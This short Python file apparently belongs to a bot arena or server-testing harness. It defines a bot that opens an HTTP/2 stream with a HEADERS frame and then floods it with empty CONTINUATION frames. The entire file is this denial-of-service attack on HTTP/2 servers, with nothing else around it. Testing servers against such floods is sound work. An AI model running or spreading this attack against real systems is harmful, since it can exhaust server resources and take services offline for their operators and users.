"""Begins a block of headers and goes on with CONTINUATION frames that hold nothing."""

from rawhttp2 import CONTINUATION, END_STREAM, HEADERS, RawBot, frame

from arenabot.v1 import player_pb2 as player


class EmptyContinuationFlood(RawBot):
    def attack(self, request: player.PlayRequest) -> None:
        self.send(frame(HEADERS, flags=END_STREAM, stream=self.stream))
        self.flood(frame(CONTINUATION, stream=self.stream))


if __name__ == "__main__":
    EmptyContinuationFlood().serve()
